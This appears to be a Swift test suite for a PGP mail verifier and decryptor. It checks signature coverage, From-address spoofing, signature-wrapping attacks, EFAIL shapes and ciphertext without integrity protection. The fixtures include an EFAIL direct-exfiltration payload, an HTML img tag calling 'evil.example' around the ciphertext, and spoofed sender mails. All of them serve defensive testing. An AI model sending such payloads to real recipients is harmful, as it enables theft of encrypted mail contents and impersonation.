import Foundation
import Incoming
import MIME
import OpenPGP
import TestSupport
import Testing

/// A signed part as `multipart/signed`, signed with gpg's command line by the
/// key for `signer` in `home`, over the part's canonical (CRLF) bytes.
func signedPart(_ text: String, signer: String, home: TemporaryGnuPGHome, boundary: String = "sig") throws -> String {
    let part = "Content-Type: text/plain; charset=utf-8\n\n\(text)\n"
    let canonical = Array(part.replacingOccurrences(of: "\n", with: "\r\n").utf8)
    let signature = try home.gpg(["--armor", "--detach-sign", "--local-user", signer], input: canonical)
    try #require(signature.status == 0, "\(signature.errors)")
    return "Content-Type: multipart/signed; boundary=\"\(boundary)\"; protocol=\"application/pgp-signature\"; micalg=pgp-sha256\n\n"
        + "--\(boundary)\n\(part)\n--\(boundary)\nContent-Type: application/pgp-signature\n\n\(signature.output)\n--\(boundary)--\n"
}

/// An armored message encrypted to `recipient` (and signed by `signer` when given) with gpg's command line.
func encrypted(_ text: String, to recipient: String, signer: String? = nil, home: TemporaryGnuPGHome,
               extra: [String] = []) throws -> String {
    var arguments = ["--armor", "--trust-model", "always", "--recipient", recipient] + extra
    if let signer { arguments += ["--sign", "--local-user", signer] }
    let result = try home.gpg(arguments + ["--encrypt"], input: Array(text.utf8))
    try #require(result.status == 0, "\(result.errors)")
    return result.output
}

func pgpMIME(_ armored: String, boundary: String = "enc") -> String {
    "Content-Type: multipart/encrypted; boundary=\"\(boundary)\"; protocol=\"application/pgp-encrypted\"\n\n"
        + "--\(boundary)\nContent-Type: application/pgp-encrypted\n\nVersion: 1\n\n"
        + "--\(boundary)\nContent-Type: application/octet-stream\n\n\(armored)\n--\(boundary)--\n"
}

func mail(from: String = "Alice <alice@example.org>", _ body: String) -> [UInt8] {
    Array("From: \(from)\nTo: Bob <bob@example.org>\nSubject: test\nMessage-ID: <t.\(UUID())@example.org>\nMIME-Version: 1.0\n\(body)".utf8)
}

@Suite("Signatures: coverage, the From check and wrapping attacks", .serialized)
struct VerificationTests {
    let keys = ["alice.sec.asc", "bob.sec.asc"]

    @Test("a good signature over the whole mail by the From address is verified; tampering makes it bad")
    func whole() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let verifier = MailVerifier(gnupg: GnuPG(home: home.path))
            let good = mail(try signedPart("Pay Bob 10 EUR.", signer: "alice@example.org", home: home))
            let report = try verifier.verify(good)
            #expect(report.verified && report.status == "good" && report.coverage == "whole" && report.fromMatches)
            #expect(report.signer?.userID == "Alice <alice@example.org>")
            let tampered = Array(String(decoding: good, as: UTF8.self).replacingOccurrences(of: "10 EUR", with: "99 EUR").utf8)
            let bad = try verifier.verify(tampered)
            #expect(!bad.verified && bad.status == "bad")
            let crlf = Array(String(decoding: good, as: UTF8.self).replacingOccurrences(of: "\n", with: "\r\n").utf8)
            #expect(try verifier.verify(crlf).verified, "the same mail with CRLF line ends")
        }
    }

    @Test("wrapped: a signed part inside multipart/mixed, multipart/alternative or an attached message is never 'signed'")
    func wrapping() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let verifier = MailVerifier(gnupg: GnuPG(home: home.path))
            let signed = try signedPart("Pay Bob 10 EUR.", signer: "alice@example.org", home: home)
            let shapes: [(String, String, String)] = [
                ("mixed", "Content-Type: multipart/mixed; boundary=\"w\"\n\n--w\nContent-Type: text/plain\n\nPay Mallory 5000 EUR.\n--w\n\(signed)--w--\n", "partial"),
                ("alternative", "Content-Type: multipart/alternative; boundary=\"w\"\n\n--w\n\(signed)--w\nContent-Type: text/html\n\n<p>Pay Mallory</p>\n--w--\n", "partial"),
                ("rfc822", "Content-Type: multipart/mixed; boundary=\"w\"\n\n--w\nContent-Type: text/plain\n\nPay Mallory, see the forwarded mail.\n--w\nContent-Type: message/rfc822\n\nFrom: Alice <alice@example.org>\nSubject: old\nMIME-Version: 1.0\n\(signed)--w--\n", "attached"),
            ]
            for (name, body, coverage) in shapes {
                let report = try verifier.verify(mail(body))
                #expect(report.status == "good", "\(name): the signature itself is fine")
                #expect(report.coverage == coverage && !report.verified, "\(name)")
                #expect(report.reason?.contains(coverage == "attached" ? "attached" : "only part") == true, "\(name): \(report.reason ?? "")")
            }
        }
    }

    @Test("signer is not From; display names that show another address; several From addresses")
    func fromChecks() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let verifier = MailVerifier(gnupg: GnuPG(home: home.path))
            let byBob = try signedPart("I am Alice.", signer: "bob@example.org", home: home)
            let notFrom = try verifier.verify(mail(from: "Alice <alice@example.org>", byBob))
            #expect(notFrom.status == "good" && !notFrom.fromMatches && !notFrom.verified)
            #expect(notFrom.reason?.contains("no user ID with the From address alice@example.org") == true)
            let spoofed = try verifier.verify(mail(from: "\"alice@example.org\" <bob@example.org>", byBob))
            #expect(spoofed.status == "good" && !spoofed.verified)
            #expect(spoofed.reason?.contains("display name shows the address alice@example.org") == true)
            let several = try verifier.verify(mail(from: "Bob <bob@example.org>, Alice <alice@example.org>", byBob))
            #expect(!several.verified && several.reason?.contains("several From addresses") == true)
            let viaSender = try verifier.verify(mail(from: "Alice <alice@example.org>\nSender: Bob <bob@example.org>", byBob))
            #expect(!viaSender.verified && viaSender.reason?.contains("the signer is the Sender bob@example.org") == true)
            let bob = try verifier.verify(mail(from: "BOB <Bob@Example.org>", byBob))
            #expect(bob.verified, "the address matches whatever its case; \(bob.reason ?? "")")
        }
    }

    @Test("inline cleartext signatures: whole is verified, with text around it is partial; unknown keys are named")
    func inline() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let verifier = MailVerifier(gnupg: GnuPG(home: home.path))
            let clear = try home.gpg(["--clearsign", "--local-user", "alice@example.org"], input: Array("Pay Bob 10 EUR.\n".utf8))
            let whole = try verifier.verify(mail("Content-Type: text/plain\n\n\(clear.output)"))
            #expect(whole.verified && whole.kind == .inline, "\(whole.reason ?? "")")
            let around = try verifier.verify(mail("Content-Type: text/plain\n\nPay Mallory instead.\n\n\(clear.output)\n"))
            #expect(around.status == "good" && around.coverage == "partial" && !around.verified)
            try withGnuPGHome(importing: ["bob.pub.asc"]) { stranger throws in
                let unknown = try MailVerifier(gnupg: GnuPG(home: stranger.path)).verify(mail("Content-Type: text/plain\n\n\(clear.output)"))
                #expect(unknown.status == "unknown key" && !unknown.verified)
            }
            let unsigned = try verifier.verify(mail("Content-Type: text/plain\n\nhello\n"))
            #expect(unsigned.coverage == "none" && !unsigned.verified && unsigned.reason == "the mail is not signed")
        }
    }
}

@Suite("Decryption: the EFAIL shapes, MDC and protected headers", .serialized)
struct DecryptionTests {
    let keys = ["alice.sec.asc", "bob.sec.asc"]

    @Test("a whole PGP/MIME or inline message decrypts; the signature inside is judged")
    func whole() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let decryptor = MailDecryptor(gnupg: GnuPG(home: home.path))
            let inner = "Content-Type: text/plain\n\nThe vault code is 8642.\n"
            let (message, report) = try decryptor.decrypt(mail(pgpMIME(try encrypted(inner, to: "bob@example.org", signer: "alice@example.org", home: home))))
            #expect(report.decrypted && report.kind == .pgpMIME && report.signature?.verified == true)
            #expect(message.body?.text == "The vault code is 8642.\n")
            let inline = try decryptor.decrypt(mail("Content-Type: text/plain\n\n" + (try encrypted("inline secret\n", to: "bob@example.org", home: home))))
            #expect(inline.report.kind == .inline && inline.report.signature == nil)
            #expect(inline.message.body?.text == "inline secret\n")
        }
    }

    @Test("the EFAIL shapes and forwarded or quoted ciphertext are reported, never decrypted into their surroundings")
    func shapes() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let decryptor = MailDecryptor(gnupg: GnuPG(home: home.path))
            let armored = try encrypted("Content-Type: text/plain\n\nzqsecret plaintext\n", to: "bob@example.org", home: home)
            let shapes: [(String, String, String)] = [
                ("HTML context (direct exfiltration)",
                 "Content-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/html\n\n<img src=\"http://evil.example/?\n--x\n"
                    + pgpMIME(armored) + "--x\nContent-Type: text/html\n\n\">\n--x--\n", "not the whole message"),
                ("reply oracle: beside other text", "Content-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/plain\n\nPlease reply.\n--x\n"
                    + pgpMIME(armored) + "--x--\n", "not the whole message"),
                ("forwarded as an attachment", "Content-Type: multipart/mixed; boundary=\"x\"\n\n--x\nContent-Type: text/plain\n\nFYI\n--x\n"
                    + "Content-Type: message/rfc822\n\nFrom: Alice <alice@example.org>\nSubject: old\nMIME-Version: 1.0\n" + pgpMIME(armored) + "--x--\n",
                 "attached message"),
                ("quoted inline in a reply", "Content-Type: text/plain\n\nWhat does this say?\n\n" + armored + "\n", "other text around it"),
            ]
            for (name, body, reason) in shapes {
                do {
                    _ = try decryptor.decrypt(mail(body))
                    Issue.record("\(name): decrypted")
                } catch let refusal as DecryptionRefusal {
                    #expect(refusal.description.contains(reason) && !refusal.description.contains("zqsecret"), "\(name): \(refusal)")
                }
            }
            #expect(throws: DecryptionRefusal.self) { try decryptor.decrypt(mail("Content-Type: text/plain\n\nplain\n")) }
        }
    }

    @Test("ciphertext without integrity protection (gpg --rfc2440) is refused, inline and as PGP/MIME")
    func noMDC() throws {
        try withGnuPGHome(importing: keys) { home throws in
            let decryptor = MailDecryptor(gnupg: GnuPG(home: home.path))
            let armored = try encrypted("Content-Type: text/plain\n\nzqsecret\n", to: "bob@example.org", home: home,
                                        extra: ["--rfc2440", "--cipher-algo", "CAST5"])
            #expect(throws: IntegrityError()) { try decryptor.decrypt(mail(pgpMIME(armored))) }
            #expect(throws: IntegrityError()) { try decryptor.decrypt(mail("Content-Type: text/plain\n\n" + armored)) }
        }
    }
}
